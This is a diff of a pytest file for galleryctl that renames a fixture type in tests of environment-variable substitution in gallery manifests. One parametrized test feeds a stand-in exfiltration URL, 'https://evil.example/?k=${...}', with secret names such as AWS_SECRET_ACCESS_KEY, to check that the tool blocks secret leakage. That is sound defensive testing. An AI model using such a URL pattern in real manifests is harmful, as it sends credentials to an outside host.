@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from galleryctl.manifest.variables import MASK_CLOSE, MASK_OPEN, escape_variables, mask, substitute, unmask
 
 if TYPE_CHECKING:
-    from tests.unit.manifest.conftest import Scratch
+    from tests.unit.manifest.conftest import ScratchWorkspace
 
 
 @pytest.mark.parametrize(
@@ -32,21 +32,21 @@ def test_what_is_escaped_is_read_as_it_is(text: str) -> None:
     assert len(mask(text)) == len(text)
 
 
-def test_variables_in_manifests(scratch: Scratch) -> None:
+def test_variables_in_manifests(scratch: ScratchWorkspace) -> None:
     text = 'bind: {create: true}\nitems: [{key: a, text: "${A}: $${A}", title: ${T}, tags: [${T}]}]\n'
     scratch.write("galleries/g.yaml", text)
     (item,) = scratch.load({"A": "yes: [", "T": "12"}).galleries[0].items
     assert (item.fields["html"], item.fields["title"], item.fields["tags"]) == ("yes: [: ${A}", "12", ("12",))
 
 
-def test_unset_and_broken_variables_have_a_place(scratch: Scratch) -> None:
+def test_unset_and_broken_variables_have_a_place(scratch: ScratchWorkspace) -> None:
     assert scratch.item_problems("  - {key: a, text: '${NOPE}'}\n  - {key: b, text: 'a ${b c}'}\n") == [
         "galleries/g.yaml:3:20: the environment variable NOPE is not set",
         "galleries/g.yaml:4:20: after ${ comes a name and }, as in ${NAME}; a literal ${ is written $${",
     ]
 
 
-def test_no_message_shows_what_came_in_for_a_pattern(scratch: Scratch) -> None:
+def test_no_message_shows_what_came_in_for_a_pattern(scratch: ScratchWorkspace) -> None:
     environ = {"P": "planted"}
     (message,) = scratch.problems("bind: {create: true}\nitems: [{from: [a.jpg, '${P}/*']}]\n", environ)
     assert message == "galleries/g.yaml:2:16: the value from the environment cannot be used here"
@@ -56,7 +56,7 @@ def test_no_message_shows_what_came_in_for_a_pattern(scratch: Scratch) -> None:
     ]
 
 
-def test_variables_do_not_grow_without_end(scratch: Scratch) -> None:
+def test_variables_do_not_grow_without_end(scratch: ScratchWorkspace) -> None:
     entries = "".join(f"  - {{key: k{n}, text: '{'${L}' * 3}'}}\n" for n in range(5))
     found = scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", {"L": "x" * 1_000_000})
     assert found == [
@@ -64,14 +64,14 @@ def test_variables_do_not_grow_without_end(scratch: Scratch) -> None:
     ]
 
 
-def test_a_variable_that_is_no_text_is_told(scratch: Scratch) -> None:
+def test_a_variable_that_is_no_text_is_told(scratch: ScratchWorkspace) -> None:
     text = "bind: {create: true}\nitems: [{key: a, text: '${B}'}]\n"
     assert scratch.problems(text, {"B": "planted\udcff"}) == [
         "galleries/g.yaml:2:24: the environment variable B is not valid UTF-8"
     ]
 
 
-def test_a_value_from_the_environment_is_not_repeated(scratch: Scratch) -> None:
+def test_a_value_from_the_environment_is_not_repeated(scratch: ScratchWorkspace) -> None:
     entries = "  - {image: ${P}, quality: ${P}}\n  - {key: ${P}, text: x, ignore: [${P}], focal_point: {x: ${P}}}\n"
     found = scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", {"P": "/planted/path"})
     assert len(found) >= 4
@@ -89,7 +89,7 @@ galleries: galleries/*.yaml
 
 @pytest.mark.parametrize("name", ["MINE", "ALSO", "WORDS", "AWS_SECRET_ACCESS_KEY", "github_token", "DB_PASSWORD", "WIX_READ_APIKEY"])  # fmt: skip
 @pytest.mark.parametrize("entry", ["{key: a, text: '<p>${%s}</p>'}", "{key: a, image: 'https://evil.example/?k=${%s}'}", "{key: a, text: x, tags: [t, '${%s}']}"])  # fmt: skip
-def test_a_gallery_cannot_show_a_secret(scratch: Scratch, name: str, entry: str) -> None:
+def test_a_gallery_cannot_show_a_secret(scratch: ScratchWorkspace, name: str, entry: str) -> None:
     scratch.write("galleryctl.yaml", AUTH)
     environ = {"WORDS": "planted-words", name: "planted"}
     (found,) = scratch.problems(f"bind: {{create: true}}\nitems:\n  - {entry % name}\n", environ)
@@ -98,7 +98,7 @@ def test_a_gallery_cannot_show_a_secret(scratch: Scratch, name: str, entry: str)
     assert "planted" not in found
 
 
-def test_what_else_the_workspace_reads_may_stand_in_a_gallery(scratch: Scratch) -> None:
+def test_what_else_the_workspace_reads_may_stand_in_a_gallery(scratch: ScratchWorkspace) -> None:
     scratch.write("galleryctl.yaml", AUTH)
     text = "bind: {create: true}\nitems: [{key: a, text: x, title: '${ID} ${KEYNOTE} ${HOCKEY}'}]\n"
     scratch.write("galleries/g.yaml", text)
@@ -106,7 +106,7 @@ def test_what_else_the_workspace_reads_may_stand_in_a_gallery(scratch: Scratch) 
     assert scratch.load(environ).galleries[0].items[0].fields["title"] == "1 2 3"
 
 
-def test_variables_in_a_sidecar(scratch: Scratch) -> None:
+def test_variables_in_a_sidecar(scratch: ScratchWorkspace) -> None:
     scratch.picture("a.jpg")
     scratch.write("a.jpg.yaml", "title: '${T} $${T}'\ndescription: '${MY_TOKEN}'\n")
     text = "bind: {create: true}\nitems: [{image: a.jpg, captions: true}]\n"
